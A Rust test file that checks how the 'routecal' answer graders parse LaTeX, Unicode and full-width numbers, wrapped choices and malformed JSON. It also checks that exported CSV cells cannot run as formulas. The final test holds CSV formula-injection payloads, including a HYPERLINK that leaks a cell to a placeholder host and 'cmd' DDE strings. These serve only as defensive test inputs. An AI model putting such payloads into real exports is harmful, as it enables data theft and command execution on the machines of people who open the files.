//! Graders read answers the way a careful person would, end to end through `routecal run` on a
//! replayed suite: LaTeX and Unicode numbers, wrapped choices, malformed JSON objects, text in
//! other normalisation forms; and results.csv is safe to open in a spreadsheet.

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::common::*;

/// One item: id, grader, the model's answer and the score it must get.
struct Item {
    id: &'static str,
    grader: Value,
    answer: &'static str,
    score: &'static str,
}

fn item(id: &'static str, grader: Value, answer: &'static str, score: &'static str) -> Item {
    Item {
        id,
        grader,
        answer,
        score,
    }
}

const ROUTES: &str = r#"
[classifier]
model = "builtin/keywords"
[endpoints.kw]
kind = "keywords"
[endpoints.rec]
kind = "replay"
path = "recording.jsonl"
[models."builtin/keywords"]
endpoint = "kw"
tier = "budget"
[models."local/m"]
endpoint = "rec"
tier = "budget"
input_per_mtok = 1.0
output_per_mtok = 1.0
[default]
primary = "local/m"
"#;

/// A replayed suite answering every item with its answer; the run directory.
fn run_items(tmp: &Path, items: &[Item]) -> PathBuf {
    let suite = tmp.join("suite");
    std::fs::create_dir_all(&suite).unwrap();
    let (mut dataset, mut recording) = (String::new(), String::new());
    for it in items {
        let prompt = format!("Question {}?", it.id);
        dataset.push_str(
            &json!({"id": it.id, "prompt": prompt, "task_type": "general",
            "priority": "default", "grader": it.grader})
            .to_string(),
        );
        dataset.push('\n');
        recording.push_str(
            &json!({"model": "local/m", "prompt_sha256": sha256(&prompt),
            "response": it.answer})
            .to_string(),
        );
        recording.push('\n');
    }
    std::fs::write(suite.join("dataset.jsonl"), dataset).unwrap();
    std::fs::write(suite.join("recording.jsonl"), recording).unwrap();
    std::fs::write(suite.join("routes.toml"), ROUTES).unwrap();
    run_ok(tmp, &suite, &tmp.join("reports"))
}

fn assert_scores(items: &[Item]) {
    let tmp = tempfile::tempdir().unwrap();
    let dir = run_items(tmp.path(), items);
    let rows = read_csv(&dir.join("results.csv"));
    let mut wrong = Vec::new();
    for it in items {
        let row = rows.iter().find(|r| r["item_id"] == it.id).unwrap();
        if row["score"] != it.score {
            wrong.push(format!(
                "{}: score {} (expected {}) for {:?}: {}",
                it.id, row["score"], it.score, it.answer, row["grade_reason"]
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn numeric(expected: &str) -> Value {
    json!({"kind": "numeric", "expected": expected})
}

#[test]
fn numeric_reads_latex_fractions_signs_and_notation() {
    assert_scores(&[
        item(
            "frac",
            numeric("0.5"),
            "Dividing gives $\\boxed{\\frac{1}{2}}$.",
            "1",
        ),
        item(
            "dfrac",
            numeric("0.75"),
            "The result is \\boxed{\\dfrac{3}{4}}",
            "1",
        ),
        item(
            "neg-frac",
            numeric("-0.5"),
            "The slope is \\boxed{-\\frac{1}{2}}",
            "1",
        ),
        item("tfrac", numeric("0.5"), "so $\\tfrac12$", "1"),
        item(
            "left-right",
            numeric("-0.25"),
            "\\boxed{\\left(-\\frac{1}{4}\\right)}",
            "1",
        ),
        item(
            "unicode-minus",
            numeric("-7"),
            "3 \u{2212} 10 = \u{2212}7",
            "1",
        ),
        item(
            "en-dash-minus",
            numeric("-7"),
            "The result is \u{2013}7.",
            "1",
        ),
        item(
            "range-is-not-minus",
            numeric("-10"),
            "pages 3\u{2013}10",
            "0",
        ),
        item(
            "sci",
            numeric("-3"),
            "log10(1e-3) is the exponent of 1e-3: -3",
            "1",
        ),
        item("sci-small", numeric("0.001"), "about 1e-3", "1"),
        item(
            "times-ten",
            numeric("1500"),
            "It is $1.5 \\times 10^{3}$ m.",
            "1",
        ),
        item(
            "thousands",
            numeric("1234567"),
            "Total: 1,234,567 units",
            "1",
        ),
        item(
            "thin-space",
            numeric("1234567"),
            "Total: 1\u{202F}234\u{202F}567",
            "1",
        ),
        item("latex-sep", numeric("1024"), "\\boxed{1{,}024}", "1"),
        item("percent", numeric("0.45"), "That is 45\\% of it.", "1"),
        item("percent-as-is", numeric("45"), "That is 45% of it.", "1"),
        item("full-width", numeric("42"), "答えは ４２", "1"),
        item(
            "boxed-not-number",
            numeric("2"),
            "\\boxed{\\frac{\\sqrt{2}}{2}}",
            "0",
        ),
        item(
            "tagged",
            numeric("72"),
            "48/2 = 24, 48+24 = 72\n#### 72",
            "1",
        ),
    ]);
}

fn choice(expected: &str) -> Value {
    json!({"kind": "choice", "expected": expected})
}

#[test]
fn choice_reads_wrapped_answers_and_refuses_ambiguous_ones() {
    assert_scores(&[
        item("bold-letter", choice("A"), "ANSWER: **A**", "1"),
        item("dollar", choice("A"), "ANSWER: $A$", "1"),
        item(
            "bold-label",
            choice("B"),
            "Reasoning...\n\n**Answer:** B",
            "1",
        ),
        item(
            "is-colon",
            choice("C"),
            "After checking, the answer is: C",
            "1",
        ),
        item(
            "boxed-text",
            choice("E"),
            "So the choice is \\boxed{\\text{E}}",
            "1",
        ),
        item("boxed-textbf", choice("D"), "$\\boxed{\\textbf{D}}$", "1"),
        item("paren", choice("D"), "(D)", "1"),
        item("full-width", choice("B"), "ＡＮＳＷＥＲ：Ｂ", "1"),
        item("either", choice("A"), "The answer is A or B.", "0"),
        item("two", choice("A"), "ANSWER: **A**, **C**", "0"),
        item("article", choice("A"), "A lot depends on the reading.", "0"),
    ]);
}

#[test]
fn json_fields_never_grades_an_object_nested_in_a_malformed_one() {
    let e = json!({"kind": "json_fields", "expected": {"id": "A-17", "total": 5}});
    assert_scores(&[
        item(
            "trailing-comma",
            e.clone(),
            "```json\n{\"id\": \"B-99\", \"items\": [{\"id\": \"A-17\", \"total\": 5}],}\n```",
            "0",
        ),
        item(
            "missing-comma",
            e.clone(),
            "{\"id\": \"B-99\" \"items\": [{\"id\": \"A-17\", \"total\": 5}]}",
            "0",
        ),
        item(
            "cut-off",
            e.clone(),
            "{\"order\": {\"id\": \"A-17\", \"total\": 5}",
            "0",
        ),
        item(
            "tolerated-comma",
            e.clone(),
            "{\"id\": \"A-17\", \"total\": 5,}",
            "1",
        ),
        item(
            "full-width",
            e,
            "{\"id\": \"Ａ-１７\", \"total\": \"５\"}",
            "1",
        ),
    ]);
}

#[test]
fn text_comparisons_ignore_normalisation_and_width() {
    assert_scores(&[
        item(
            "nfd",
            json!({"kind": "exact", "expected": "Zürich"}),
            "Zu\u{308}rich",
            "1",
        ),
        item(
            "width",
            json!({"kind": "exact", "expected": "PARIS 2024"}),
            "ＰＡＲＩＳ ２０２４",
            "1",
        ),
        item(
            "contains-ligature",
            json!({"kind": "contains", "any": ["final"]}),
            "the ﬁnal answer",
            "1",
        ),
        item(
            "case-sensitive-still",
            json!({"kind": "exact", "expected": "Paris", "case_sensitive": true}),
            "ｐａｒｉｓ",
            "0",
        ),
    ]);
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_inert_and_the_journal_is_exact() {
    let tmp = tempfile::tempdir().unwrap();
    let contains = json!({"kind": "contains", "any": ["1"]});
    let answers = [
        (
            "=eq",
            "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Click\")",
        ),
        ("+plus", "+1+cmd|' /C calc'!A0"),
        ("-minus", "-2+3+cmd|' /C calc'!A0"),
        ("@at", "@SUM(1+9)*cmd|' /C calc'!A0"),
        ("tab", "\t=1+1"),
        ("cr", "\r=1+1"),
        ("num", "-1.5"),
    ];
    let items: Vec<Item> = answers
        .iter()
        .map(|(id, a)| item(id, contains.clone(), a, "1"))
        .collect();
    let dir = run_items(tmp.path(), &items);
    let mut checked = 0;
    for e in std::fs::read_dir(&dir).unwrap() {
        let p = e.unwrap().path();
        if p.extension().is_some_and(|x| x == "csv") {
            let mut r = csv::Reader::from_path(&p).unwrap();
            for rec in r.records() {
                for cell in rec.unwrap().iter() {
                    let live = cell.starts_with(['=', '+', '@', '\t', '\r'])
                        || (cell.starts_with('-') && cell.parse::<f64>().is_err());
                    assert!(!live, "{}: live cell {cell:?}", p.display());
                    checked += 1;
                }
            }
        }
    }
    assert!(checked > 50, "{checked} cells checked");
    let rows = read_csv(&dir.join("results.csv"));
    for (id, answer) in answers {
        let row = rows
            .iter()
            .find(|r| r["item_id"] == format!("'{id}") || r["item_id"] == id);
        let row = row.unwrap_or_else(|| panic!("{id} in results.csv"));
        let want = if id == "num" {
            answer.to_string()
        } else {
            format!("'{answer}")
        };
        assert_eq!(row["answer"], want, "{id}");
    }
    let journal = read_jsonl(&dir.join("journal.jsonl"));
    for (id, answer) in answers {
        let row = journal
            .iter()
            .find(|r| r["item"] == id && r["kind"] == "candidate")
            .unwrap();
        assert_eq!(row["response"], answer, "the journal keeps {id} exact");
    }
}
